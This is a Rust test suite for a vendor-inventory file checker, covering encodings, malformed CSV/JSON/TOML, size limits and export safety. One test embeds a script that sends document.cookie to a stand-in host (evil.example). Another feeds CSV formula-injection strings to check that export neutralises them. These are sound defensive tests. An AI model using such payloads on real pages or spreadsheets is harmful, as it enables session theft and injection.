//! Bad input: a sentence says what is wrong and on which line, and the rest is checked all the same.

#![allow(clippy::expect_used, clippy::unwrap_used, clippy::panic, reason = "a test fails by a panic")]

mod fixture_index;

use fixture_index::{INDEX, MATCHER};
use inventory::{Check, DecodeError, Input, MAX_BYTES, MAX_LINES, Report, decode, to_csv};

fn check(file: &str, bytes: &[u8]) -> Report {
    let text = decode(Some(file), bytes).expect("text");
    Check::run(vec![Input::new(Some(file.to_owned()), text)], &MATCHER)
}

fn slugs(report: &Report) -> Vec<&str> {
    report.found.iter().map(|found| found.slug.as_str()).collect()
}

fn utf_16(text: &str, is_little: bool) -> Vec<u8> {
    let units = text.encode_utf16();
    units.flat_map(|unit| if is_little { unit.to_le_bytes() } else { unit.to_be_bytes() }).collect()
}

#[test]
fn files_that_are_no_text_get_a_sentence() {
    let zip = b"PK\x03\x04\x14\0\0\0\x08\0 secret.txt";
    let workbook = b"PK\x03\x04\x14\0\x06\0\x08\0[Content_Types].xml xl/workbook.xml";
    for (file, bytes, error) in [
        ("a.xlsx", &workbook[..], DecodeError::Spreadsheet),
        ("renamed.csv", workbook, DecodeError::Spreadsheet),
        ("renamed.csv", zip, DecodeError::Archive),
        ("a.zip", zip, DecodeError::Archive),
        ("a.csv", b"\x1f\x8b\x08\0", DecodeError::Archive),
        ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", DecodeError::Spreadsheet),
        ("a.numbers", b"x", DecodeError::Spreadsheet),
        ("a.ods", b"x", DecodeError::Spreadsheet),
        ("a.pdf", b"%PDF-1.7", DecodeError::Document),
        ("a.docx", zip, DecodeError::Document),
        ("a.csv", b"\x7fELF\x02\x01\x01\0\0\0", DecodeError::Binary),
        ("a.png", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", DecodeError::Binary),
    ] {
        let result = decode(Some(file), bytes);
        assert_eq!(result, Err(error), "{file}");
        assert!(error.to_string().ends_with('.'), "{error}");
    }
    assert_eq!(decode(None, &vec![b'a'; MAX_BYTES + 1]), Err(DecodeError::TooLarge));
}

#[test]
fn a_file_of_10_mb_is_checked() {
    let mut text = "Zoom,".to_owned() + &"x".repeat(1000);
    text = [text.as_str(), "\n"].concat().repeat(10_000);
    text.truncate(MAX_BYTES);
    assert_eq!(slugs(&check("a.csv", text.as_bytes())), ["zoom"]);
}

#[test]
fn every_encoding_of_excel_is_read() {
    let text = "Name;Betrag\r\nZoom;1\r\nCafé Müller;2\r\n";
    let latin: Vec<u8> = text.chars().map(|c| u8::try_from(u32::from(c)).expect("Latin-1")).collect();
    for (name, bytes) in [
        ("UTF-8", text.as_bytes().to_vec()),
        ("UTF-8 with a mark", [b"\xef\xbb\xbf", text.as_bytes()].concat()),
        ("UTF-16 LE with a mark", [b"\xff\xfe".to_vec(), utf_16(text, true)].concat()),
        ("UTF-16 BE with a mark", [b"\xfe\xff".to_vec(), utf_16(text, false)].concat()),
        ("UTF-16 LE", utf_16(text, true)),
        ("UTF-16 BE", utf_16(text, false)),
        ("Latin-1", latin),
    ] {
        let report = check("a.csv", &bytes);
        assert_eq!(slugs(&report), ["zoom"], "{name}");
        assert_eq!(report.unknown[0].name, "Café Müller", "{name}");
    }
    assert_eq!(decode(None, b"\x93Zoom\x94 \x80").as_deref(), Ok("“Zoom” €"));
    assert_eq!(decode(None, b"a\rb\r\nc").as_deref(), Ok("a\nb\nc"));
}

#[test]
fn a_quotation_mark_that_is_not_closed_is_named_and_the_rest_is_checked() {
    let report = check("a.csv", b"Vendor,Notes\nSlack,\"open\nZoom,x\nTwilio,y\n");
    assert_eq!(slugs(&report), ["slack", "zoom", "twilio"]);
    assert_eq!(report.problems[0].line, Some(2));
    assert!(report.problems[0].message.contains("Line 2"), "{}", report.problems[0].message);
    let report = check(".env", b"A_KEY=\"open\nTWILIO_TOKEN=x\n");
    assert_eq!((slugs(&report), report.problems[0].line), (vec!["twilio"], Some(1)));
}

#[test]
fn damaged_json_and_toml_are_named_and_the_readable_lines_are_checked() {
    let report = check(
        "package.json",
        b"{\n \"dependencies\": {\n  \"stripe\": \"^1\",\n  \"twilio\": \"^2\"\n  \"x\"\n }\n",
    );
    assert_eq!(slugs(&report), ["stripe", "twilio"]);
    assert_eq!(report.problems[0].line, Some(5));
    let report = check("Cargo.toml", b"[dependencies]\nsentry = \"1\"\nbroken = = 2\nasync-stripe = \"1\"\n");
    assert_eq!(slugs(&report), ["sentry", "stripe"]);
    assert_eq!(report.problems[0].line, Some(3));
    let report = check("apps.json", b"[\n {\"label\": \"Zoom\"},\n {\"label\": \n");
    assert!(!report.problems.is_empty());
}

#[test]
fn only_the_first_100_000_lines_are_checked() {
    let mut text = "Unknown vendor\n".repeat(MAX_LINES - 1);
    text.push_str("Zoom\nSlack\n");
    let report = check("a.txt", text.as_bytes());
    assert_eq!(slugs(&report), ["zoom"]);
    assert_eq!(report.problems.len(), 1);
    assert!(report.problems[0].message.contains("100000"), "{}", report.problems[0].message);
    let exact = check("a.txt", "Zoom\n".repeat(MAX_LINES).as_bytes());
    assert_eq!(exact.problems, []);
}

#[test]
fn formulas_are_shown_as_text_and_neutralized_on_export() {
    let report = check("a.csv", b"Vendor,Cost\n=HYPERLINK(\"\"x\"\"),1\n+SUM(A1),2\n@cmd,3\nZoom,4\n");
    assert_eq!(slugs(&report), ["zoom"]);
    let csv = to_csv(&report, &INDEX, &[]);
    let rows = csv.trim_start_matches('\u{feff}').lines();
    assert!(
        rows.flat_map(|row| row.split(',')).all(|cell| !cell.trim_matches('"').starts_with(['=', '+', '@'])),
        "{csv}"
    );
}

#[test]
fn scripts_are_skipped_and_right_to_left_names_are_kept() {
    let html = "<table><tr><td>Zoom</td></tr></table><script>fetch('https://evil.example/' + document.cookie)</script>";
    let report = check("a.html", html.as_bytes());
    assert_eq!((slugs(&report), report.unknown.len()), (vec!["zoom"], 0));
    let report = check("a.txt", "שלום תוכנה\n\u{202e}mooZ\nZoom\n".as_bytes());
    assert_eq!(slugs(&report), ["zoom"]);
    assert_eq!(report.unknown.len(), 2);
}

#[test]
fn an_empty_input_gives_an_empty_report() {
    assert_eq!(Check::run(Vec::new(), &MATCHER), Report::default());
    assert_eq!(check("a.csv", b""), Report::default());
    assert_eq!(check("package.json", b"").problems.len(), 1);
}

#[test]
fn deeply_nested_json_is_read_to_a_limit() {
    let depth = 100_000;
    let text = ["[".repeat(depth), "\"zoom\"".to_owned(), "]".repeat(depth)].concat();
    let report = Check::run(vec![Input::new(Some("apps.json".to_owned()), text)], &MATCHER);
    assert_eq!(report.found, []);
    assert_eq!(report.ignored.len(), 1);
}

#[test]
fn a_pasted_text_is_never_taken_for_a_file() {
    for text in ["%PDF-1.7 is what we sign with", "zoom\u{8}\u{7}\r\nslack"] {
        assert_eq!(Input::from_text(text).error, None, "{text:?}");
    }
    let large = "zoom\n".repeat(inventory::MAX_BYTES / 5 + 1);
    assert!(Input::from_text(&large).error.is_some());
}
